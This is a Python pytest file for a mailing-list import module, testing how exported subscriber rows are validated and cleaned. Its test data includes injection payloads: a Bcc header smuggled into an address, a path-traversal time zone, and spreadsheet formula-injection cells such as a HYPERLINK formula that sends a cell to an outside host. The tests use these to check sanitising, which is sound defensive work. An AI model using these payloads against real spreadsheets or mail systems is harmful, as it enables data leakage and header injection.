"""What the rows of other programs' lists mean, and which cells are dangerous (T24, T46)."""

from typing import Any

import pytest

from syndicate.domain.lists import (
    PLAIN,
    PRESETS,
    Reading,
    Row,
    Standing,
    find_columns,
    guarded,
    one_line,
    provenance,
    read_row,
    with_columns,
)
from syndicate.errors import Refused

PLAIN_HEADER = ("address", "name", "language", "zone", "since", "state")


def reading(**more: Any) -> Reading:
    return find_columns(PLAIN, PLAIN_HEADER, **more)


def row(**cells: str) -> list[str]:
    there = {"address": "rini@pembaca.example", "state": "active"} | cells
    return [there.get(name, "") for name in PLAIN_HEADER]


def understood(**cells: str) -> Row:
    found = read_row(reading(), 7, row(**cells))
    assert isinstance(found, Row), found
    return found


def test_a_row_is_cleaned_and_checked() -> None:
    found = understood(
        address=" Rini@Pembaca.EXAMPLE ",
        name="  Ri\u0000ni\t\u202eA ",
        zone="Asia/Makassar",
        since="2024",
        language="en",
    )

    assert found == Row(
        line=7,
        address="Rini@pembaca.example",
        name="Rini A",
        language="en",
        timezone="Asia/Makassar",
        since="2024",
        standing=Standing.READS,
    )


@pytest.mark.parametrize(
    ("cells", "why"),
    [
        ({"address": "rini"}, "exactly one @"),
        ({"address": "a@b.example\nBcc: c@d.example"}, "exactly one @"),
        ({"language": "Indonesian language"}, "no language tag"),
        ({"zone": "../../etc/passwd"}, "no time zone"),
        ({"zone": "Jakarta"}, "no time zone"),
        ({"state": "maybe"}, "state is 'maybe'"),
        ({"state": ""}, "state is ''"),
    ],
)
def test_a_row_that_can_t_be_understood_says_why(cells: dict[str, str], why: str) -> None:
    assert why in str(read_row(reading(), 7, row(**cells)))


def test_a_row_of_another_width_is_not_guessed_at() -> None:
    assert read_row(reading(), 7, ["rini@pembaca.example"]) == "it has 1 columns, the first line has 6"


@pytest.mark.parametrize("state", ["ended", "Unsubscribed", "suppressed", "BOUNCED"])
def test_who_left_is_kept_whatever_else_is_wrong_with_the_row(state: str) -> None:
    found = understood(state=state, zone="nowhere", language="?", name="Rini")

    assert (found.name, found.timezone) == ("", "")
    assert found.standing > Standing.READS


def test_a_list_of_those_who_left_subscribes_nobody() -> None:
    found = read_row(reading(all_left=True), 2, row())

    assert isinstance(found, Row)
    assert found.standing is Standing.LEFT


@pytest.mark.parametrize(
    ("preset", "cells", "standing"),
    [
        ("listmonk", {"email": "a@x.example", "status": "enabled"}, Standing.READS),
        ("listmonk", {"email": "a@x.example", "status": "disabled"}, Standing.LEFT),
        ("listmonk", {"email": "a@x.example", "status": "blocklisted"}, Standing.BLOCKED),
        ("ghost", {"email": "a@x.example", "subscribed_to_emails": "true"}, Standing.READS),
        ("ghost", {"email": "a@x.example", "subscribed_to_emails": "false"}, Standing.LEFT),
        ("ghost", {"email": "a@x.example", "subscribed_to_emails": "true", "deleted_at": "2024"}, Standing.LEFT),
        ("mailchimp", {"Email Address": "a@x.example"}, Standing.READS),
        ("mailchimp", {"Email Address": "a@x.example", "UNSUB_TIME": "2024"}, Standing.LEFT),
        ("mailchimp", {"Email Address": "a@x.example", "UNSUB_TIME": "2024", "CLEAN_TIME": "2025"}, Standing.BLOCKED),
    ],
)
def test_each_preset_knows_which_columns_mean_no(preset: str, cells: dict[str, str], standing: Standing) -> None:
    columns = {"deleted_at": ""} | cells if preset == "ghost" else cells
    found = read_row(find_columns(PRESETS[preset], list(columns)), 2, list(columns.values()))

    assert isinstance(found, Row)
    assert found.standing is standing


@pytest.mark.parametrize(("preset", "header"), [("listmonk", ["email", "name"]), ("ghost", ["email", "name"])])
def test_without_the_column_that_says_who_left_nothing_is_read(preset: str, header: list[str]) -> None:
    with pytest.raises(Refused, match="has no column"):
        find_columns(PRESETS[preset], header)


def test_columns_can_be_named_and_must_be_there_once() -> None:
    preset = with_columns(PLAIN, [("address", "Surel"), ("name", "Depan"), ("name", "Belakang"), ("state", "Aktif")])
    found = find_columns(preset, ["surel", "Depan", "Belakang", "AKTIF"])

    understood_row = read_row(found, 2, ["a@x.example", "Rini", "Sari", "yes"])
    assert isinstance(understood_row, Row)
    assert (understood_row.name, understood_row.standing) == ("Rini Sari", Standing.READS)
    with pytest.raises(Refused, match="more than one"):
        find_columns(preset, ["surel", "Surel", "Aktif"])
    with pytest.raises(Refused, match="no column 'Belakang'"):
        find_columns(preset, ["Surel", "Depan", "Aktif"], asked=["Depan", "Belakang"])


@pytest.mark.parametrize(
    "words", ["", "page", "  \u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200b ", "x" * 501]
)
def test_words_that_say_nothing_are_no_provenance(words: str) -> None:
    with pytest.raises(Refused, match="where these people agreed"):
        provenance(words)


@pytest.mark.parametrize(
    "cell",
    [
        *('=HYPERLINK("http://e/"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "|calc", "%1"),
        *("＝1", "＋1", "－1", "＠1", "  =1", "\u00a0=1", "\u3000=1", "\n=1"),
    ],
)
def test_a_cell_that_could_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Rini", "rini@pembaca.example", "2026-11-24", "a=b", "'=1"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


def test_a_name_is_one_line_without_hidden_characters() -> None:
    assert one_line("Ri\u202eni\r\nBcc:\u0000 x\ue000 é") == "Rini Bcc: x é"
